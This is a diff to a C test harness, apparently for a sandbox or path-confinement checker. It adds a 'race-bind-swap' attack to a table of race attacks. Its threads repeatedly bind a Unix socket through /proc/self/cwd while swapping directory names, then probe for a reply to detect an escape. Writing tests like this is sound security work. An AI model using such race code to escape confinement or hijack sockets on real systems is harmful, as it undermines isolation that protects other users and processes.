@@ -177,7 +177,50 @@ static void connect_string(void) {
     pthread_join(thread, NULL);
 }
 
+/* Binds /proc/self/cwd/S from a directory that the victim's socket is moved into and out of under that name. */
+static void *bind_spot(void *unused) {
+    struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "/proc/self/cwd/S"};
+    while (!done) {
+        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+        bind(fd, (struct sockaddr *)&address, sizeof address);
+        close(fd);
+        unlink(shared_path);
+    }
+    return unused;
+}
+
+static void *move_socket(void *unused) {
+    while (!done) rename(good, bad), rename(bad, good);
+    return unused;
+}
+
+static int has_reply(const char *path) {
+    struct sockaddr_un address = {.sun_family = AF_UNIX};
+    struct timeval patience = {1, 0};
+    char text[256];
+    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
+    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
+    ssize_t n = connect(fd, (struct sockaddr *)&address, sizeof address) ? 0 : recv(fd, text, sizeof text, 0);
+    if (n > 0) fwrite(text, 1, (size_t)n, stdout);
+    close(fd);
+    return n > 0;
+}
+
+static void bind_swap(void) {
+    set_names("work/victim.sock", "work/x/S");
+    snprintf(shared_path, sizeof shared_path, "%s", at("work/S"));
+    if (mkdir("x", 0755) || chdir("x")) fail("x");
+    pthread_t binder = start(bind_spot), mover = start(move_socket);
+    for (double end = seconds() + 4; seconds() < end;)
+        if (has_reply(good) || has_reply(bad)) break;
+    done = 1;
+    pthread_join(binder, NULL);
+    pthread_join(mover, NULL);
+}
+
 const struct attack RACES[] = {
+    {"race-bind-swap", bind_swap},
     {"race-read-string", read_string},
     {"race-read-symlink", read_symlink},
     {"race-read-directory", read_directory},
